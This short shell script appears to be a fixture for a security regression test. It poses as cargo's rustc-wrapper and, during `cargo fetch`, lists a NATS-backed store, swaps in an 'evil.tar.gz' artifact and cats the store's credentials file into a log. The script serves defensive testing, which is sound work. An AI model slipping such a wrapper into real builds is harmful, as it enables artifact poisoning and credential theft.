#!/bin/sh
# Runs as cargo's rustc-wrapper; during `cargo fetch` (network on) CARGO_HOME is writable.
# The regression test (test/e2e/security_jobs_test.go) fills in @NATS_URL@ (the store's
# listener) and @CREDS@ (the store's generated credentials file, which a build must not read).
if [ -w "$CARGO_HOME" ] && [ ! -e "$CARGO_HOME/rt-fetch.log" ]; then
  d=$(dirname "$0")
  { "$d/rtforge" @NATS_URL@ list; "$d/rtforge" @NATS_URL@ swap "$d/evil.tar.gz"; echo "RTCREDS: $(cat @CREDS@ 2>&1)"; } > "$CARGO_HOME/rt-fetch.log" 2>&1
fi
exec "$@"
